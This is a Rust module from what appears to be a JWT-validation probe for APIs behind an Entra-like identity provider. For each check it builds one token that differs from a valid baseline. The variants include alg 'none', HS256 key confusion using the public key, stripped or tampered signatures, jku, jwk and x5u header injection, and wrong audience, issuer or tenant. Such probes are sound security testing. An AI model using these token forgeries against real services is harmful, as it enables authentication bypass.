//! The token recipe of each check: what exactly differs from the baseline.
//!
//! Every token the probe calls "correct" is built by the provider's own
//! claim builders ([`access_token_claims`], [`id_token_claims`]) and signed
//! by its current key, so a check changes only the one thing it is about.

use rolegate_idp::directory::Application;
use rolegate_idp::protocol::scope::GRAPH_APP_ID;
use rolegate_idp::protocol::tokens::{
    AccessGrant, ClientAuth, IdentityGrant, IssuerContext, Resource, access_token_claims,
    id_token_claims,
};
use serde_json::{Map, Value, json};

use crate::ProbeError;
use crate::bait::Bait;
use crate::cast::{Cast, guid};
use crate::catalogue::CheckId;
use crate::mint::{self, AttackerKey};
use crate::provider::ProviderSide;

/// How a request carries its credential.
#[derive(Debug, Clone)]
pub(crate) enum Credential {
    /// No credential at all.
    Nothing,
    /// `Authorization: {scheme} {token}`.
    Header {
        /// `Bearer` or `bearer`.
        scheme: &'static str,
        /// The token.
        token: String,
    },
    /// `?access_token={token}`.
    Query(String),
}

/// One request of a check (a check may try several encodings).
#[derive(Debug, Clone)]
pub(crate) struct Attempt {
    /// What distinguishes this attempt (shown when it is the one accepted).
    pub label: &'static str,
    /// The credential.
    pub credential: Credential,
}

/// A check ready to send.
#[derive(Debug, Clone)]
pub(crate) struct Planned {
    /// Which check.
    pub id: CheckId,
    /// What is sent, for the report.
    pub sent: String,
    /// The requests.
    pub attempts: Vec<Attempt>,
}

/// The checks to send, and those that do not apply (with the reason).
#[derive(Debug, Clone)]
pub(crate) struct Plan {
    /// In catalogue order.
    pub checks: Vec<Planned>,
    /// Not sent.
    pub skipped: Vec<(CheckId, String)>,
}

/// A check's description and requests, or why it does not apply.
type Recipe = Result<(String, Vec<Attempt>), String>;

/// What the endpoint requires, and so what the baseline token carries.
#[derive(Debug, Clone)]
pub(crate) struct Baseline {
    /// An app-only (daemon) token rather than a delegated one.
    pub app_only: bool,
    /// `scp` values (delegated only).
    pub scopes: Vec<String>,
    /// `roles` values.
    pub roles: Vec<String>,
}

impl Baseline {
    /// Delegated unless only roles are required and none of them may be
    /// held by users (or the API exposes no scope a user token could carry).
    pub(crate) fn new(api: &Application, roles: &[String], scopes: &[String]) -> Baseline {
        let user_roles = roles.iter().any(|r| {
            api.app_roles
                .iter()
                .any(|d| d.value == *r && d.allowed_for_users)
        });
        let app_only =
            scopes.is_empty() && !roles.is_empty() && (api.scopes.is_empty() || !user_roles);
        let scopes = match (app_only, scopes.is_empty(), api.scopes.first()) {
            (true, _, _) => Vec::new(),
            (false, false, _) => scopes.to_vec(),
            (false, true, Some(first)) => vec![first.value.clone()],
            (false, true, None) => vec![DEFAULT_SCOPE.to_owned()],
        };
        Baseline {
            app_only,
            scopes,
            roles: roles.to_vec(),
        }
    }

    /// A short description for messages: `delegated token with scp […] and roles […]`.
    pub(crate) fn describe(&self) -> String {
        if self.app_only {
            format!("app-only token with roles {:?}", self.roles)
        } else {
            format!(
                "delegated token with scp {:?} and roles {:?}",
                self.scopes, self.roles
            )
        }
    }
}

/// Builds the tokens.
pub(crate) struct Kitchen<'a> {
    pub provider: &'a ProviderSide,
    pub cast: &'a Cast,
    pub baseline: &'a Baseline,
    pub attacker: &'a AttackerKey,
    pub bait: &'a Bait,
    pub now: i64,
}

impl Kitchen<'_> {
    /// The correct token the API must accept.
    pub(crate) fn baseline_token(&self) -> Result<String, ProbeError> {
        self.sign(
            &self.baseline_claims(&self.provider.issuer, self.now),
            self.v1(),
        )
    }

    /// Every applicable check, in catalogue order, and the skipped ones
    /// with the reason.
    pub(crate) fn plan(&self) -> Result<Plan, ProbeError> {
        let mut plan = Plan {
            checks: Vec::new(),
            skipped: Vec::new(),
        };
        for id in CheckId::ALL {
            match self.recipe(id)? {
                Ok((sent, attempts)) => plan.checks.push(Planned { id, sent, attempts }),
                Err(reason) => plan.skipped.push((id, reason)),
            }
        }
        Ok(plan)
    }

    /// What check `id` sends, or why it does not apply.
    fn recipe(&self, id: CheckId) -> Result<Recipe, ProbeError> {
        let cast = self.cast;
        let now = self.now;
        let issuer = &self.provider.issuer;
        let v1 = self.v1();
        let signed = |claims: &Map<String, Value>| self.sign(claims, v1);
        let one = |sent: String, token: String| Ok(Ok((sent, vec![bearer("", token)])));
        match id {
            CheckId::NoToken => Ok(Ok((
                "no Authorization header".to_owned(),
                vec![Attempt {
                    label: "",
                    credential: Credential::Nothing,
                }],
            ))),
            CheckId::IdToken => {
                let claims = self.id_token(&cast.spa, Vec::new())?;
                one(
                    format!(
                        "ID token, aud = {} ({})",
                        cast.spa.app_id, cast.spa.display_name
                    ),
                    self.sign(&claims, false)?,
                )
            }
            CheckId::IdTokenSameRegistration => {
                let roles = if self.baseline.roles.is_empty() {
                    self.provider.directory.user_roles(&cast.user, &cast.api)
                } else {
                    self.baseline.roles.clone()
                };
                let claims = self.id_token(&cast.api, roles.clone())?;
                one(
                    format!("ID token, aud = the API, roles {roles:?}"),
                    self.sign(&claims, false)?,
                )
            }
            CheckId::WrongAudience => {
                let aud = if v1 {
                    cast.other_api
                        .identifier_uris
                        .first()
                        .unwrap_or(&cast.other_api.app_id)
                        .clone()
                } else {
                    cast.other_api.app_id.clone()
                };
                let mut claims = self.baseline_claims(issuer, now);
                claims.insert("aud".into(), aud.clone().into());
                one(
                    format!(
                        "access token for {} (aud {aud})",
                        cast.other_api.display_name
                    ),
                    signed(&claims)?,
                )
            }
            CheckId::GraphAudience => {
                let mut claims = self.baseline_claims(issuer, now);
                claims.insert("aud".into(), GRAPH_APP_ID.into());
                one(format!("aud {GRAPH_APP_ID} (Graph)"), signed(&claims)?)
            }
            CheckId::ForeignTenant => {
                let foreign = IssuerContext {
                    origin: issuer.origin.clone(),
                    tenant_id: guid()?,
                };
                let claims = self.baseline_claims(&foreign, now);
                one(
                    format!("token of tenant {}, same key", foreign.tenant_id),
                    signed(&claims)?,
                )
            }
            CheckId::WrongIssuer => {
                let tid = &issuer.tenant_id;
                let other = if v1 {
                    format!("https://sts.chinacloudapi.cn/{tid}/")
                } else if issuer.origin == "https://login.microsoftonline.com" {
                    format!("https://login.microsoftonline.us/{tid}/v2.0")
                } else {
                    format!("https://login.microsoftonline.com/{tid}/v2.0")
                };
                let mut claims = self.baseline_claims(issuer, now);
                claims.insert("iss".into(), other.clone().into());
                one(format!("iss {other}, same key"), signed(&claims)?)
            }
            CheckId::V1TokenForV2Api | CheckId::V2TokenForV1Api => {
                let for_v2_api = id == CheckId::V1TokenForV2Api;
                if for_v2_api == v1 {
                    return Ok(Err(format!(
                        "the API's registration requests v{}.0 tokens",
                        if v1 { 1 } else { 2 }
                    )));
                }
                let mut api = cast.api.clone();
                api.requested_access_token_version = if for_v2_api { 1 } else { 2 };
                let audience = if for_v2_api {
                    api.identifier_uris.first().unwrap_or(&api.app_id).clone()
                } else {
                    cast.audience.clone()
                };
                let claims = self.claims_for(&api, &audience, issuer, now);
                let aud = claims
                    .get("aud")
                    .and_then(Value::as_str)
                    .unwrap_or_default();
                let version = if for_v2_api {
                    "v1.0 (iss sts.windows.net)"
                } else {
                    "v2.0"
                };
                one(
                    format!("{version} token, aud {aud}"),
                    self.sign(&claims, for_v2_api)?,
                )
            }
            CheckId::Expired => {
                let claims = self.baseline_claims(issuer, now - LIFETIME - SKEW_BEYOND);
                one("exp 10 minutes ago".to_owned(), signed(&claims)?)
            }
            CheckId::NotYetValid => {
                let mut claims = self.baseline_claims(issuer, now);
                claims.insert("nbf".into(), (now + SKEW_BEYOND).into());
                one("nbf in 10 minutes".to_owned(), signed(&claims)?)
            }
            CheckId::MissingRole => {
                if self.baseline.roles.is_empty() {
                    return Ok(Err("no --role given".to_owned()));
                }
                let mut claims = self.baseline_claims(issuer, now);
                claims.remove("roles");
                one(format!("{} without roles", self.kind()), signed(&claims)?)
            }
            CheckId::AppOnlyWithoutRole => {
                let grant = self.grant(&cast.api, &cast.audience, true, Vec::new(), Vec::new());
                let claims = access_token_claims(issuer, &grant, now, LIFETIME);
                one(
                    format!("app-only token of {}, no roles", cast.daemon.display_name),
                    signed(&claims)?,
                )
            }
            CheckId::DelegatedWithoutScope => {
                let roles = if self.baseline.roles.is_empty() {
                    self.provider.directory.user_roles(&cast.user, &cast.api)
                } else {
                    self.baseline.roles.clone()
                };
                let grant = self.grant(&cast.api, &cast.audience, false, Vec::new(), roles.clone());
                let mut claims = access_token_claims(issuer, &grant, now, LIFETIME);
                claims.remove("idtyp");
                one(
                    format!("user token, roles {roles:?}, no scp"),
                    signed(&claims)?,
                )
            }
            CheckId::AlgNone => {
                let claims = self.baseline_claims(issuer, now);
                let attempts = ["none", "None", "NONE", "nOnE"]
                    .into_iter()
                    .map(|alg| {
                        bearer(
                            "",
                            mint::unsigned(&json!({"typ": "JWT", "alg": alg}), &claims),
                        )
                    })
                    .collect();
                Ok(Ok((
                    "alg none/None/NONE/nOnE, no signature".to_owned(),
                    attempts,
                )))
            }
            CheckId::Hs256KeyConfusion => {
                let claims = self.baseline_claims(issuer, now);
                let header = json!({"typ": "JWT", "alg": "HS256", "kid": self.provider.public.kid});
                let attempts = mint::public_key_secrets(&self.provider.public)
                    .into_iter()
                    .map(|(label, secret)| bearer(label, mint::hs256(&header, &claims, &secret)))
                    .collect();
                Ok(Ok((
                    "HS256 keyed with the public key (PEM, PKCS#1, cert, JWK, DER)".to_owned(),
                    attempts,
                )))
            }
            CheckId::SignatureStripped => {
                let token = self.baseline_token()?;
                let unsigned = token
                    .rsplit_once('.')
                    .map(|(input, _)| input)
                    .unwrap_or_default();
                Ok(Ok((
                    "baseline without its signature".to_owned(),
                    vec![
                        bearer("header.payload.", format!("{unsigned}.")),
                        bearer("header.payload", unsigned.to_owned()),
                    ],
                )))
            }
            CheckId::SignatureTampered => {
                let token = self.baseline_token()?;
                let mut claims = self.baseline_claims(issuer, now);
                let exp = claims.get("exp").and_then(Value::as_i64).unwrap_or(now);
                claims.insert("exp".into(), (exp + LIFETIME).into());
                one(
                    "baseline with exp changed after signing".to_owned(),
                    mint::with_payload(&token, &claims),
                )
            }
            CheckId::UnknownKid => {
                let claims = self.baseline_claims(issuer, now);
                let header = json!({"typ": "JWT", "alg": "RS256", "kid": self.attacker.kid});
                one(
                    "kid not in the JWKS, signed by another key".to_owned(),
                    self.attacker.sign(&header, &claims)?,
                )
            }
            CheckId::JkuInjection => {
                let claims = self.baseline_claims(issuer, now);
                let header = json!({"typ": "JWT", "alg": "RS256", "kid": self.attacker.kid, "jku": self.bait.jku_url});
                one(
                    format!("jku {}", self.bait.jku_url),
                    self.attacker.sign(&header, &claims)?,
                )
            }
            CheckId::JwkInjection => {
                let claims = self.baseline_claims(issuer, now);
                let header = json!({"typ": "JWT", "alg": "RS256", "kid": self.attacker.kid, "jwk": self.attacker.jwk});
                one(
                    "the probe's own key in the jwk header".to_owned(),
                    self.attacker.sign(&header, &claims)?,
                )
            }
            CheckId::X5uInjection => {
                let claims = self.baseline_claims(issuer, now);
                let header = json!({"typ": "JWT", "alg": "RS256", "kid": self.attacker.kid, "x5u": self.bait.x5u_url});
                one(
                    format!("x5u {}", self.bait.x5u_url),
                    self.attacker.sign(&header, &claims)?,
                )
            }
            CheckId::TokenInQuery => Ok(Ok((
                "baseline as ?access_token=".to_owned(),
                vec![Attempt {
                    label: "",
                    credential: Credential::Query(self.baseline_token()?),
                }],
            ))),
            CheckId::LowercaseScheme => Ok(Ok((
                "baseline with scheme `bearer`".to_owned(),
                vec![Attempt {
                    label: "",
                    credential: Credential::Header {
                        scheme: "bearer",
                        token: self.baseline_token()?,
                    },
                }],
            ))),
        }
    }

    fn v1(&self) -> bool {
        self.cast.api.requested_access_token_version != 2
    }

    fn kind(&self) -> &'static str {
        if self.baseline.app_only {
            "app-only token"
        } else {
            "delegated token"
        }
    }

    fn sign(&self, claims: &Map<String, Value>, v1: bool) -> Result<String, ProbeError> {
        mint::sign(self.provider, claims, v1, self.now)
    }

    fn baseline_claims(&self, issuer: &IssuerContext, now: i64) -> Map<String, Value> {
        self.claims_for(&self.cast.api, &self.cast.audience, issuer, now)
    }

    fn claims_for(
        &self,
        api: &Application,
        audience: &str,
        issuer: &IssuerContext,
        now: i64,
    ) -> Map<String, Value> {
        let grant = self.grant(
            api,
            audience,
            self.baseline.app_only,
            self.baseline.scopes.clone(),
            self.baseline.roles.clone(),
        );
        access_token_claims(issuer, &grant, now, LIFETIME)
    }

    fn grant<'a>(
        &'a self,
        api: &'a Application,
        audience: &str,
        app_only: bool,
        scopes: Vec<String>,
        roles: Vec<String>,
    ) -> AccessGrant<'a> {
        let cast = self.cast;
        let (client, client_auth) = if app_only {
            (&cast.daemon, ClientAuth::Secret)
        } else if cast.client.is_confidential() {
            (&cast.client, ClientAuth::Secret)
        } else {
            (&cast.client, ClientAuth::Public)
        };
        AccessGrant {
            resource: Resource::Api(api),
            audience_written: audience.to_owned(),
            client,
            client_auth,
            user: (!app_only).then_some(&cast.user),
            scopes: if app_only { Vec::new() } else { scopes },
            roles,
            auth_time: Some(self.now),
            membership: Default::default(),
        }
    }

    fn id_token(
        &self,
        client: &Application,
        roles: Vec<String>,
    ) -> Result<Map<String, Value>, ProbeError> {
        let grant = IdentityGrant {
            client,
            user: &self.cast.user,
            nonce: Some(guid()?),
            roles,
            session_id: Some(guid()?),
            auth_time: Some(self.now),
            email: false,
            membership: Default::default(),
            v1: false,
        };
        Ok(id_token_claims(
            &self.provider.issuer,
            &grant,
            self.now,
            LIFETIME,
        ))
    }
}

fn bearer(label: &'static str, token: String) -> Attempt {
    Attempt {
        label,
        credential: Credential::Header {
            scheme: "Bearer",
            token,
        },
    }
}

/// Entra's default scope name for a new API.
const DEFAULT_SCOPE: &str = "user_impersonation";

/// Token lifetime (seconds), as Entra's default hour.
const LIFETIME: i64 = 3600;

/// Ten minutes: beyond the usual 5-minute clock skew.
const SKEW_BEYOND: i64 = 600;
